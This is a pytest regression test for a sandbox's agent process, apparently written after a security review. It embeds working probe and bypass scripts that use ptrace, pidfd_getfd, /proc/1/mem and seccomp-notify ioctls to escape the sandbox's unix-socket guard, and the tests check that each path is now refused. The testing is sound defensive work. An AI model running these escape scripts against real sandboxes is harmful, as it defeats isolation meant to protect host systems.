"""Outside review, round 5: a command cannot reach into its agent.

The agent (the sandbox's pid 1) drops every capability and runs as the sandbox's root, the
same uid as the commands it starts, and it was dumpable: a command could ptrace it,
`pidfd_getfd` its descriptors and read or write its memory through `/proc/1/mem` (no
syscall a deny list sees). Permissive's deny list allows ptrace and pidfd_getfd, so a
command took the unix guard's seccomp listener from the agent, stopped the agent and
answered its own `connect()` with CONTINUE: it reached a host server's socket in a bound
dir, the one thing the guard is for (tests/test_unix_guard.py); it could also take the
lock of its id range (`/run/agentkernel-ids/N`, held so that no two sandboxes share host
ids) and let it go. Now the agent is not dumpable once its capabilities are gone.
Attacked on namespaces as root and as `nobody`, and on podman (where its uid is the
container's root's too).
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from sandbox_helpers import SYSTEM_PYTHON, backend_available, public_pythonpath

NOBODY = 65534

# Every way into pid 1 that a same-uid process without capabilities had.
REACH = r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH; let it go again (a stopped agent hangs)
    os.waitpid(1, 0)
    libc.ptrace(17, 1, 0, 0)
    print("ptrace", "REACHED", flush=True)
else:
    print("ptrace", "refused", flush=True)
links = []  # (the numbers show: the dir is the sandbox root's; what they are must not)
for fd in os.listdir("/proc/1/fd"):
    try:
        links.append(os.readlink(f"/proc/1/fd/{fd}"))
    except OSError:
        pass
print("fd-links", "REACHED" if links else "refused", flush=True)
pidfd = os.pidfd_open(1)
got = [n for n in range(3, 64) if libc.syscall(438, pidfd, n, 0) >= 0]
print("pidfd-getfd", "REACHED" if got else "refused", flush=True)
for what in ("mem", "environ"):
    try:
        os.close(os.open(f"/proc/1/{what}", os.O_RDONLY)); print(what, "REACHED", flush=True)
    except OSError:
        print(what, "refused", flush=True)
"""

# The guard's own listener used against it: a host server's socket in the project.
BYPASS = r"""
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
path = sys.argv[1]
listener = None
try:
    for fd in os.listdir("/proc/1/fd"):
        if "seccomp notify" in os.readlink(f"/proc/1/fd/{fd}"):
            listener = int(fd)
except OSError:
    pass
nfd = libc.syscall(438, os.pidfd_open(1), listener, 0) if listener is not None else -1
if nfd < 0:
    print("no-listener", flush=True); sys.exit(0)
stopped = libc.ptrace(16, 1, 0, 0) == 0  # the agent's guard thread answers no more
if stopped:
    os.waitpid(1, 0)
child = os.fork()
if child == 0:
    c = socket.socket(socket.AF_UNIX)
    try:
        c.connect(path); print("bypass", "CONNECTED", flush=True)
    except OSError as e:
        print("bypass refused", e.strerror, flush=True)
    os._exit(0)
note = ctypes.create_string_buffer(80)
if libc.ioctl(nfd, ctypes.c_ulong(0xC0502100), note) == 0:  # SECCOMP_IOCTL_NOTIF_RECV
    answer = struct.pack("QqiI", struct.unpack_from("Q", note.raw)[0], 0, 0, 1)  # CONTINUE
    libc.ioctl(nfd, ctypes.c_ulong(0xC0182101), ctypes.create_string_buffer(answer, 24))
os.waitpid(child, 0)
if stopped:
    libc.ptrace(17, 1, 0, 0)
"""


@pytest.fixture
def top() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="ak-rt5-agent-", dir="/var/tmp"))
    path.chmod(0o755)
    (path / "project").mkdir()
    yield path
    shutil.rmtree(path, ignore_errors=True)


def _run(top: Path, user: int, backend: str, *argv: str) -> tuple[str, str, int]:
    if user == 0:
        cmd = [sys.executable, "-P", "-m", "agentkernel"]
        env = {**os.environ, "AGENTKERNEL_NO_DAEMON": "1"}
    else:
        for sub in ("run", "data"):
            (top / sub).mkdir(mode=0o700, exist_ok=True)
        for p in (top, top / "project", top / "run", top / "data"):
            os.chown(p, user, user)
        cmd = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", "--",
               SYSTEM_PYTHON, "-P", "-m", "agentkernel"]
        env = {"PATH": os.environ.get("PATH", os.defpath), "HOME": str(top),
               "AGENTKERNEL_HOME": str(top / "data"), "AGENTKERNEL_RUNTIME_DIR": str(top / "run"),
               "AGENTKERNEL_NO_DAEMON": "1", "PYTHONPATH": public_pythonpath()}
    r = subprocess.run([*cmd, "run", "-q", "-B", backend, "--profile", "permissive", "--",
                        *argv], cwd=top / "project", env=env, capture_output=True, text=True,
                       timeout=90, stdin=subprocess.DEVNULL, check=False)
    return r.stdout, r.stderr, r.returncode


def _skip(backend: str, user: int) -> None:
    if os.geteuid() != 0 or not backend_available(backend):
        pytest.skip(f"needs root and the {backend} backend")
    if user != 0 and (shutil.which("setpriv") is None or not os.access(SYSTEM_PYTHON, os.X_OK)):
        pytest.skip("needs setpriv and the system's python3 to become nobody")


@pytest.mark.parametrize("backend,user", [("namespaces", 0), ("namespaces", NOBODY),
                                          ("podman", 0)],
                         ids=["namespaces-root", "namespaces-nobody", "podman-root"])
def test_a_command_cannot_reach_into_its_agent(top: Path, backend: str, user: int) -> None:
    _skip(backend, user)
    out, err, code = _run(top, user, backend, "python3", "-c", REACH)
    verdicts = {ln.split()[0]: ln.split()[1] for ln in out.splitlines() if len(ln.split()) == 2}
    ways = ("ptrace", "fd-links", "pidfd-getfd", "mem", "environ")
    assert code == 0 and set(ways) <= set(verdicts), (out, err)
    assert {w: verdicts[w] for w in ways} == dict.fromkeys(ways, "refused"), verdicts


@pytest.mark.parametrize("user", [0, NOBODY], ids=["root", "nobody"])
def test_the_unix_guard_cannot_be_answered_by_its_command(top: Path, user: int) -> None:
    _skip("namespaces", user)
    sock_path = top / "project" / "host.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sock_path))
    sock_path.chmod(0o600)
    os.chown(sock_path, user, user)
    server.listen(4)
    server.settimeout(0.1)
    try:
        out, err, code = _run(top, user, "namespaces", "python3", "-c", BYPASS,
                              "/workspace/host.sock")
        try:
            conn, _ = server.accept()
            conn.close()
            reached = True
        except TimeoutError:
            reached = False
    finally:
        server.close()
    assert code == 0, (out, err)
    assert "bypass CONNECTED" not in out and not reached, (out, err)
